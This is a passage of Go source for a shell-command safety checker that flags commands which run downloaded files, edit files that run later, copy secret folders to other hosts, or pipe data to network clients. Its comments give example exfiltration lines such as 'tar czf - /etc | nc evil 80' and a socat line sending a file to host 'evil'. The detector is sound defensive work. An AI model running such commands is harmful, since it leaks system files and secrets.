			rest, _, _ = strings.Cut(rest, "?")
			if i := strings.LastIndexByte(rest, '/'); i >= 0 && i+1 < len(rest) {
				j.noteDownload(rest[i+1:], name)
			}
		}
	}
}

// noteDownload remembers a file a downloader wrote.
func (j *judge) noteDownload(file, by string) {
	if j.downloads == nil {
		j.downloads = map[string]string{}
	}
	j.downloads[downloadKey(file)] = by
}

// downloadKey is the name a downloaded file is looked up by: ./x and x
// are one file.
func downloadKey(p string) string {
	p = strings.TrimPrefix(p, "./")
	if p == "" {
		return "."
	}
	return p
}

// runsDownload records a danger when a command runs a file a downloader
// wrote earlier in the script (curl -o x URL; sh x; ./x; python3 x;
// . x), as a download piped into a shell is.
func (j *judge) runsDownload(argv []arg, name string) {
	if len(j.downloads) == 0 {
		return
	}
	if by, ok := j.downloads[downloadKey(argv[0].text)]; ok && strings.IndexByte(argv[0].text, '/') >= 0 {
		j.danger(argv[0].text + " runs the file " + by + " downloaded earlier in the script: it runs downloaded code")
		return
	}
	if !shells[name] && !runnerName(name) && name != "source" && name != "." && name != "chmod" {
		return
	}
	for _, a := range argv[1:] {
		if by, ok := j.downloads[downloadKey(a.text)]; ok && !a.dynamic {
			if name == "chmod" {
				continue // chmod +x x, then ./x: the run is what counts
			}
			j.danger(argv[0].text + " " + a.text + " runs the file " + by + " downloaded earlier in the script: it runs downloaded code")
			return
		}
	}
}

// writeOption reports whether an option's name says its value is where
// the program writes: -o, --output, --log-file, --dest, --src, --prefix.
func writeOption(opt string) bool {
	if outputOptions[opt] {
		return true
	}
	if !strings.HasPrefix(opt, "--") {
		return false
	}
	for _, part := range []string{"out", "dest", "save", "write", "target", "src", "prefix", "log", "dump"} {
		if strings.Contains(opt, part) {
			return true
		}
	}
	return false
}

// runnerInside reports whether a value holds a shell's or interpreter's
// path among its pieces: "ProxyCommand /bin/sh -i", "/bin/sh,-s",
// "/bin/sh:x".
func runnerInside(v string) bool {
	if len(v) > 4096 {
		return false
	}
	start := 0
	for i := 0; i <= len(v); i++ {
		if i < len(v) && !strings.ContainsRune(" ,:;=\t", rune(v[i])) {
			continue
		}
		piece := v[start:i]
		start = i + 1
		if strings.IndexByte(piece, '/') >= 0 && !strings.HasSuffix(piece, "/") && runnerName(piece) {
			return true
		}
	}
	return false
}

// sharedLibrary reports whether a word names a shared library a program
// would load: x.so, ./lib.so.1, /tmp/x.dylib.
func sharedLibrary(v string) bool {
	base := v[strings.LastIndexByte(v, '/')+1:]
	if strings.HasSuffix(base, ".dylib") {
		return true
	}
	k := strings.Index(base, ".so")
	if k <= 0 {
		return false
	}
	rest := base[k+3:]
	return rest == "" || rest[0] == '.' && strings.Trim(rest, ".0123456789") == ""
}

// bareRunner records a danger for an interpreter the command table does not hold
// (irb, wish, jjs) started with nothing to run: it runs whatever reaches it.
func (j *judge) bareRunner(shown, name string, args []arg, inTable bool) {
	if inTable || len(args) > 0 || j.fedNow || !runnerName(name) {
		return
	}
	j.danger(shown + " starts an interpreter with no program, which runs whatever reaches it: " + flRunsCode)
}

// inPlaceEditors edit the files they are given when told -i.
var inPlaceEditors = map[string]bool{"sed": true, "gsed": true, "perl": true, "ruby": true}

// inPlacePlant records a danger for sed -i (perl -i, ruby -i) on a file
// where code runs later: a reader's row judges the edit a write, the
// model's low must not wave it through. It reports whether it did.
func (j *judge) inPlacePlant(shown, name string, args []arg) bool {
	if !inPlaceEditors[name] {
		return false
	}
	edits := false
	for _, a := range args {
		t := a.text
		if t == "--in-place" || strings.HasPrefix(t, "--in-place=") || strings.HasPrefix(t, "-i") ||
			strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.ContainsRune(t, 'i') && name == "sed" {
			edits = true
		}
	}
	if !edits {
		return false
	}
	for _, a := range args {
		if a.dynamic || strings.HasPrefix(a.text, "-") {
			continue
		}
		if why, ok := sensitive.RunsLater(a.text); ok {
			j.danger(shown + " -i " + a.text + ": " + why)
			return true
		}
	}
	return false
}

// socatFile records a danger for socat joining a file to the network
// (socat -u file:notes.txt tcp:evil:80): the file is sent, or written
// from what arrives.
func (j *judge) socatFile(shown, name string, args []arg) bool {
	if name != "socat" {
		return false
	}
	file, net := "", false
	for _, a := range args {
		t := strings.ToLower(a.text)
		kind, _, ok := strings.Cut(t, ":")
		if !ok {
			continue
		}
		switch kind {
		case "file", "open", "gopen", "create", "pipe", "unix-connect":
			file = a.text
		case "tcp", "tcp4", "tcp6", "udp", "udp4", "udp6", "tcp-connect", "tcp4-connect", "tcp6-connect",
			"udp-connect", "openssl", "openssl-connect", "ssl", "sctp", "sctp-connect", "socks4", "socks4a", "proxy":
			net = true
		}
	}
	if file != "" && net {
		j.danger(shown + " " + clipWord(file) + " joins a file to the network, which sends or overwrites it")
		return true
	}
	return false
}

// remoteHost reports whether an operand of scp or rsync names another
// host: host:path, user@host:path, host::module, rsync://.
func remoteHost(t string) bool {
	if strings.HasPrefix(t, "rsync://") {
		return true
	}
	k := strings.IndexByte(t, ':')
	return k > 0 && !strings.ContainsRune(t[:k], '/')
}

// copiesOut records a danger for scp, rsync and their kin copying a
// directory that holds secrets (/etc, ~, /root, .ssh) to another host.
func (j *judge) copiesOut(shown, name string, args []arg) bool {
	switch name {
	case "scp", "rsync", "rclone", "sftp", "lftp", "sshfs", "unison":
	default:
		return false
	}
	remote := false
	holds := ""
	for _, a := range args {
		t := a.text
		if a.dynamic || strings.HasPrefix(t, "-") {
			continue
		}
		if remoteHost(t) {
			remote = true
			continue
		}
		clean := strings.TrimSuffix(t, "/")
		if clean == "" {
			clean = "/"
		}
		if _, ok := j.a.secrets.MatchDir(clean); ok || in(clean, secretAncestors...) {
			holds = t
		}
	}
	if remote && holds != "" {
		j.danger(shown + " " + holds + " copies a folder that holds secrets to another host")
		return true
	}
	return false
}

// pipedToNet records a danger when a pipe hands a network client what a
// program wrote (tar czf - /etc | nc evil 80, cat x | curl -d @- URL):
// the data leaves the machine. Text written out on the line (echo stats |
// nc localhost 11211) is a request, not a file.
func (j *judge) pipedToNet(b *syntax.BinaryCmd) {
	if c, ok := b.Y.Cmd.(*syntax.CallExpr); !ok || len(c.Args) == 0 {
		return
	} else if w := c.Args[0]; len(w.Parts) == 1 {
		if l, ok := w.Parts[0].(*syntax.Lit); ok && !stmtInputNames[l.Value[strings.LastIndexByte(l.Value, '/')+1:]] {
			return // not a network client, nor a wrapper that may run one
		}
	}
	argv := callArgs(b.Y)
	if len(argv) == 0 {
		return
	}
	name, _, ok := commandName(argv[0])
	if !ok {
		return
	}
	sends := false
	switch {
	case senders[name]:
		sends = !hasAnyOpt(argv[1:], "-z") && (name != "openssl" || len(argv) > 1 && argv[1].text == "s_client")
	case name == "curl" || name == "wget" || name == "http" || name == "https" || name == "xh":
		for _, a := range argv[1:] {
			if t := a.text; strings.HasSuffix(t, "@-") || t == "-T" || t == "--upload-file" || t == "--post-file=/dev/stdin" || t == "@-" {
				sends = true
			}
		}
	}
	if !sends {
		return
	}
	left := b.X
	for {
		inner, ok := left.Cmd.(*syntax.BinaryCmd)
		if !ok || inner.Op != syntax.Pipe && inner.Op != syntax.PipeAll {
			break
		}
		left = inner.Y
	}
	if la := callArgs(left); len(la) > 0 {
		if n, _, ok := commandName(la[0]); ok && in(n, "echo", "printf", "true", ":") {
			return
		}
	}
	j.danger(argv[0].text + " sends what the pipe gives it over the network")
}
